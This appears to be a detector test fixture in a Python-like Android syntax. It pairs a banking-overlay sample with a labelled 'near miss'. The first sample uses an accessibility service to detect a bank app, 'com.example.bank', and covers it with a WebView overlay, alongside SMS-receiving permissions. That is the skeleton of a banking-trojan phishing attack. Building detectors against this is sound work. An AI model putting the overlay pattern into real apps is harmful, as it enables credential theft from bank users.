permissions("SYSTEM_ALERT_WINDOW", "RECEIVE_SMS", "INTERNET")

@service(permission="BIND_ACCESSIBILITY_SERVICE", actions=["android.accessibilityservice.AccessibilityService"])
class Events(AccessibilityService):
    def onAccessibilityEvent(self, event):
        if event.getPackageName().toString().equals("com.example.bank"):
            self.cover()
    def onInterrupt(self):
        pass
    def onServiceConnected(self):
        pass
    def cover(self):
        windows = cast(WindowManager, self.getSystemService("window"))
        windows.addView(WebView(self), WindowManager_LayoutParams(1, 1, 2038, 8, 1))

# near miss: shows its bubble once, when the service is switched on
@service(permission="BIND_ACCESSIBILITY_SERVICE", actions=["android.accessibilityservice.AccessibilityService"])
class Events(AccessibilityService):
    def onAccessibilityEvent(self, event):
        if event.getPackageName().toString().equals("com.example.bank"):
            self.disableSelf()
    def onInterrupt(self):
        pass
    def onServiceConnected(self):
        self.cover()
    def cover(self):
        windows = cast(WindowManager, self.getSystemService("window"))
        windows.addView(WebView(self), WindowManager_LayoutParams(1, 1, 2038, 8, 1))
